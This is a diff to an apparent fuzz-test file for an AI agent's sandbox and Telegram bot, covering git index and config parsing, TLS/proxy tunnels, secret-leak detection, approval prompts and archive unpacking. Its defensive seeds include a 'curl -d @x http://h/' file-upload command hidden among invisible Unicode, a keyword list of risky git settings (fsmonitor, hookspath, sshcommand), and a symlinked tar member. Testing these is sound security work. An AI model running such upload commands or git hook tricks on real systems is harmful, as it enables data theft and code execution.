@@ -8,6 +8,8 @@ import io
 import json
 import os
 import random
+import struct
+import tarfile
 import time
 from collections.abc import Callable, Sequence
 from contextlib import suppress
@@ -21,13 +23,17 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from agent.errors import AgentError, ToolError
+from agent.leaks import LeakDetector
 from agent.llm.openai.chunks import DONE, Chunks, Events, StreamTooLong
 from agent.llm.openai.errors import error_of, error_of_answer
 from agent.llm.openai.values import MOST, mapping
 from agent.llm.tool_call_parser import KnownTools, ToolCallParser
+from agent.sandbox.git_index import UnguardedError, gitlinks
+from agent.sandbox.gitdirs import is_harmless
 from agent.sandbox.hosts import HostRefused
-from agent.sandbox.output_buffer import decode_fields, truncate_middle
-from agent.sandbox.proxy import parse_request
+from agent.sandbox.output_buffer import decode_fields, truncate_middle, visible
+from agent.sandbox.proxy import REQUEST_LINE, parse_request, server_name, tunnel_start
+from agent.sandbox.workspace_taints import WorkspaceTaints
 from agent.schedule.times.draft import NotUnderstood
 from agent.schedule.times.parser import parse
 from agent.schedule.times.rule import dump, load, next_times
@@ -38,9 +44,16 @@ from agent.summary.git_facts import collect
 from agent.tools.git import NEW_SUBMODULE, changed_files
 from agent.web.fetch import parts_of
 from agent.web.html_text import html_text
+from backend.build import release
 from backend.models.gguf_header import NotAModel, read_open
+from bot import restore
 from bot import settings as configuration
+from bot.approval_question import code, excerpt, fenced
+from bot.restore import BackupError
+from bot.telegram.markdown import render
+from bot.telegram.styled import entities
 from bot.telegram.update_gate import as_json, update_number
+from bot.texts import Texts
 from fakes.hostile_streams import chunks, events
 
 SECONDS = float(os.environ.get("FUZZ_SECONDS", "0"))  # for all targets together
@@ -190,10 +203,128 @@ def stored_message(text: str) -> None:
         decoded_message("user", *SHORT.validate_json(text))
 
 
+def git_index(raw: bytes) -> None:
+    with suppress(*NO_INDEX):
+        for path in gitlinks(raw, Path("/nonexistent")):
+            assert ".." not in path.split("/")
+
+
+def git_settings(raw: bytes) -> None:
+    """Whatever passes as harmless names no program."""
+    folder = Path(os.environ["FUZZ_FOLDER"])
+    (folder / "config").write_bytes(raw)
+    fd = os.open(folder, os.O_RDONLY)
+    try:
+        harmless = is_harmless(fd, {"config": False})
+    finally:
+        os.close(fd)
+    words = (b"fsmonitor", b"hookspath", b"sshcommand", b"editor", b"::", b"include")
+    assert not harmless or not any(word in raw.lower() for word in words)
+
+
+def tls_hello(raw: bytes) -> None:
+    with suppress(HostRefused):
+        server_name(raw)
+
+
+def tunnel(raw: bytes) -> None:
+    async def start() -> bytes:
+        reader = asyncio.StreamReader()
+        reader.feed_data(raw)
+        reader.feed_eof()
+        return await tunnel_start(reader, "a.example", 443)
+
+    with suppress(HostRefused):
+        passed = asyncio.run(start())
+        assert not REQUEST_LINE.match(passed) or b"\r\nHost: a.example:443\r\n" in passed
+
+
+def markdown(text: str) -> None:
+    styled = render(text)
+    for span in styled.spans:
+        assert 0 <= span.start < span.end <= len(styled.text)
+    entities(styled)
+
+
+def approval(text: str) -> None:
+    """Nothing of a step is unseen in its question, and nothing ends the block in which it stands."""
+    shown = fenced(excerpt(Texts(), text))
+    fence = shown.partition("\n")[0]
+    assert shown.count(fence) == 2
+    assert visible(shown) == shown
+    code(text)
+
+
+def leaks(text: str) -> None:
+    found = DETECTOR.find(text)
+    assert (found is not None and found.secret) or SECRET not in text
+    feed = DETECTOR.stream()
+    told = feed.feed(text[:20]) + feed.feed(text[20:]) + feed.close()
+    assert SECRET not in told
+
+
+def origins(raw: bytes) -> None:
+    """What cannot be read counts as a stranger's."""
+    path = Path(os.environ["FUZZ_FOLDER"]) / "strangers.json"
+    path.write_bytes(raw)
+    record = WorkspaceTaints(path)
+    for taint in record.open():
+        assert isinstance(taint.source, str)
+    record.add("page http://a.example/")
+    assert "page http://a.example/" in [taint.source for taint in record.open()]
+
+
+def backup_archive(raw: bytes) -> None:
+    folder = Path(os.environ["FUZZ_FOLDER"])
+    (folder / "backup").write_bytes(raw)
+    with suppress(BackupError):
+        restore.unpack(folder / "backup", folder / "restored")
+    assert sorted(path.name for path in folder.parent.iterdir()) == [folder.name]
+
+
+def server_archive(raw: bytes) -> None:
+    folder = Path(os.environ["FUZZ_FOLDER"])
+    (folder / "server").write_bytes(raw)
+    with suppress(release.CannotGet):
+        release.unpack(folder / "server", folder / "fresh")
+    assert sorted(path.name for path in folder.parent.iterdir()) == [folder.name]
+
+
 def sample_stream() -> bytes:
     return events(chunks(random.Random(4)))
 
 
+def archive(names: Sequence[str]) -> bytes:
+    made = io.BytesIO()
+    with tarfile.open(fileobj=made, mode="w:gz", compresslevel=0) as tar:
+        for name in names:
+            member = tarfile.TarInfo(name)
+            member.size = 2
+            tar.addfile(member, io.BytesIO(b"{}"))
+        link = tarfile.TarInfo("link")
+        link.type, link.linkname = tarfile.SYMTYPE, "manifest.json"
+        tar.addfile(link)
+    return made.getvalue()
+
+
+SECRET = "4242:AAbbCCddEEff"
+DETECTOR = LeakDetector({"telegram.token": SECRET})
+NO_INDEX = (UnguardedError, ValueError, IndexError, struct.error)  # as submodule_paths takes them
+INDEX = (
+    b"DIRC"
+    + struct.pack(">II", 2, 1)
+    + bytes(24)
+    + struct.pack(">I", 0o160000)
+    + bytes(32)
+    + b"\0\3lib\0\0\0\0\0\0\0"
+)
+SETTINGS = b'[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "o"]\n\turl = https://a/b\n[include]\npath=x\nfsmonitor=x\n'
+HELLO = (
+    b"\x01\0\0\x3f\3\3" + bytes(32) + b"\0\0\2\x13\1\1\0\0\x14\0\0\0\x10\0\x0e\0\0\x0ba.example.x"
+)
+ORIGINS = b'{"next": 2, "open": [{"source": "file a", "at": 1.0, "number": 1}], "cleared": []}'
+MARKDOWN = "# a\n**b _c_** `d` ~~e~~ [f](http://a.b/c) ||g||\n\n| h | i |\n|---|:-:|\n| j | `k|` |\n\n> l\n> - m\n\n```py\nn\n```\n1. \U0001f642 &amp; <b> \\* $x$"
+STEP = "curl -d @x http://h/ ``` \u202e \U000e0041 \t\t\t \n\n\n\n\n\n~~~ **bold** ````"
 GGUF = b"GGUF\x03\0\0\0\x01\0\0\0\0\0\0\0\x01\0\0\0\0\0\0\0\x01\0\0\0\0\0\0\0a\x08\0\0\0\x01\0\0\0\0\0\0\0b"
 STATUS = b"## main\0 M a\0R  new\0old\0?? b\r\xe2\x80\xa8c\0"
 DIFF = b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a\r\n-b\x0c\n+c\xc2\x85d\nnew file mode 160000\n"
@@ -217,6 +348,16 @@ TARGETS: dict[str, tuple[st.SearchStrategy[Any], Callable[[Any], None]]] = {
     "facts of git": (mutated_bytes(FACTS), facts_of_git),
     "diff": (mutated_bytes(DIFF, STATUS), diff),
     "times": (mutated_text(WHEN), times),
+    "git index": (mutated_bytes(INDEX), git_index),
+    "git settings": (mutated_bytes(SETTINGS), git_settings),
+    "tls hello": (mutated_bytes(HELLO), tls_hello),
+    "tunnel": (mutated_bytes(REQUEST, b"\x16\3\1\0\x43" + HELLO), tunnel),
+    "markdown": (mutated_text(MARKDOWN), markdown),
+    "approval": (mutated_text(STEP, "`" * 40 + "\n" * 2990), approval),
+    "leaks": (mutated_text(f"the token {SECRET} here", f"{SECRET[:9]}\n{SECRET[9:]}"), leaks),
+    "origins of files": (mutated_bytes(ORIGINS), origins),
+    "backup": (mutated_bytes(archive(["manifest.json", "voltaire.db"])), backup_archive),
+    "server archive": (mutated_bytes(archive(["a/llama-server", "a/lib.so"])), server_archive),
     "stored message": (mutated_text('["text", "{\\"calls\\": [[\\"a\\", \\"b\\", \\"c\\"]]}"]'), stored_message),
 }  # fmt: skip
 
@@ -225,6 +366,8 @@ TARGETS: dict[str, tuple[st.SearchStrategy[Any], Callable[[Any], None]]] = {
 def test_it_gives_a_value_or_its_own_error(
     name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
+    (folder := tmp_path / "around" / "folder").mkdir(parents=True)
+    monkeypatch.setenv("FUZZ_FOLDER", str(folder))
     monkeypatch.setenv("FUZZ_CONFIG", str(tmp_path / "config.toml"))
     values, check = TARGETS[name]
     run = settings(
